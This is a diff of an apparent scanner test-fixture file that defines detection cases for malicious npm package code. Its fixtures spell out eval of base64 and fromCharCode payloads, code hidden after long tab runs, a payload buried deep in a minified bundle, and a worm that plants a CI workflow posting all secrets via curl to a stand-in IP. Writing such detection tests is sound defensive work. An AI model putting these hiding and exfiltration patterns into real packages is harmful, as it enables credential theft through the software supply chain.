@@ -27,6 +27,7 @@ silent("release_script", "package_self_propagation", "scripts/release.js",
        "execSync('npm publish', { stdio: 'inherit' });\n")
 
 B64 = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk="
+MINIFIED = "var _v=[1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20];\n"  # the line grow repeats
 for case, name, body in [
     ("js_fromcharcode_eval", "fromcharcode.js", "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,111,115,39,41));\n"),
     ("js_indirect_eval_atob", "indirect.js", f"const p = '{B64}';\n(0, eval)(atob(p));\n"),
@@ -55,11 +56,9 @@ fires("js_hidden_after_tabs", "js_code_hidden_off_screen", "high", "src/add.js",
       "tabs.js", "function add(a, b) {" + "\t" * 60 + "require('child_process').exec('id');\n  return a + b;\n}\n")
 
 fires("js_payload_after_first_mib", "js_eval_decoded_payload", "high", "node_modules/chart-kit/dist/vendor.min.js",
-      "vendor.min.js", "var _v=[1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20];\n"
-      f"eval(atob('{B64}'));\n", grow="1200k")
+      "vendor.min.js", MINIFIED + f"eval(atob('{B64}'));\n", grow="1200k")
 silent("js_large_bundle_plain", "js_eval_decoded_payload", "node_modules/chart-kit/dist/vendor.min.js",
-       "vendor-plain.min.js", "var _v=[1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20];\n"
-       "function b64(s){return atob(s)}\n", grow="1200k")
+       "vendor-plain.min.js", MINIFIED + "function b64(s){return atob(s)}\n", grow="1200k")
 fires("js_worm_plants_workflow", "package_code_spreads_worm", "critical", "node_modules/tiny-sync/dist/index.js",
       "worm-workflow.js", "const fs=require('fs');const wf=`on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n"
                           "      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://203.0.113.9/c`;\n"
